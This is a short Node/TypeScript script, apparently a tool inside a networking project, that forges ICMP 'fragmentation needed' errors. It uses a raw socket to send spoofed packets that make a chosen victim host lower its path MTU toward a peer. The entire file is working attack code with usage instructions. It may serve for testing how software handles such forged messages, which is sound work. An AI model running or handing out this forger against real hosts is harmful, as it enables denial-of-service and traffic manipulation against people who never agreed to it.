// Forges "fragmentation needed": an ICMP error that quotes somebody else's datagram.
//
//   node forge-icmp.js <victim> <its peer> <UDP port of both> <mtu>
//
// Sends two: one quotes a UDP datagram and asks the victim's socket, the other quotes an echo reply, which the kernel
// believes by itself for all that goes to the peer. The victim is the sender of the quoted datagram. Needs CAP_NET_RAW; the source is wherever this runs, and nobody
// can check it: any router on the way might have sent it.

import { isIPv4 } from "node:net";
import { errno, sendto, socket } from "../../../src/platform/nodejs/libc.ts";
import { AF_INET } from "../../../src/platform/nodejs/linux/constants.ts";
import { structures } from "../../../src/platform/nodejs/native-memory.ts";

const SOCK_RAW = 3;
const IPPROTO_ICMP = 1;
const IPPROTO_UDP = 17;
const UNREACHABLE = 3;
const FRAGMENTATION_NEEDED = 4;
const ICMP_HEADER = 8;
const IP_HEADER = 20;
const UDP_HEADER = 8;
const LENGTH = ICMP_HEADER + IP_HEADER + UDP_HEADER;
const QUOTED_LENGTH = 1400;
const TTL = 64;

function checksum(bytes: Buffer): number {
  let sum = 0;
  for (let i = 0; i < bytes.length; i += 2) sum += bytes.readUInt16BE(i);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

const octets = (address: string): number[] => address.split(".").map(Number);

function forge(protocol: number, victim: string, peer: string, port: number, mtu: number): Buffer {
  const packet = Buffer.alloc(LENGTH);
  packet[0] = UNREACHABLE;
  packet[1] = FRAGMENTATION_NEEDED;
  packet.writeUInt16BE(mtu, 6);
  const ip = packet.subarray(ICMP_HEADER, ICMP_HEADER + IP_HEADER);
  ip[0] = 0x45;
  ip.writeUInt16BE(QUOTED_LENGTH, 2);
  ip.writeUInt16BE(0x4000, 6);
  ip[8] = TTL;
  ip[9] = protocol;
  ip.set(octets(victim), 12);
  ip.set(octets(peer), 16);
  ip.writeUInt16BE(checksum(ip), 10);
  if (protocol === IPPROTO_UDP) {
    const udp = packet.subarray(ICMP_HEADER + IP_HEADER);
    udp.writeUInt16BE(port, 0);
    udp.writeUInt16BE(port, 2);
    udp.writeUInt16BE(QUOTED_LENGTH - IP_HEADER, 4);
  }
  packet.writeUInt16BE(checksum(packet), 2);
  return packet;
}

const [victim = "", peer = "", port, mtu] = process.argv.slice(2);
if (!isIPv4(victim) || !isIPv4(peer)) throw new Error("forge-icmp: two IPv4 addresses, please");
const data = structures.reserve(LENGTH);
const to = structures.reserve(16);
structures.u8[to] = AF_INET;
structures.u8.set(octets(victim), to + 4);
const fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
for (const protocol of [IPPROTO_UDP, IPPROTO_ICMP]) {
  structures.u8.set(forge(protocol, victim, peer, Number(port), Number(mtu)), data);
  const sent = fd < 0 ? -1 : sendto(fd, structures.address(data), LENGTH, 0, structures.address(to), 16);
  if (sent !== LENGTH) throw new Error(`forge-icmp: errno ${errno()}`);
}
console.log("forged");
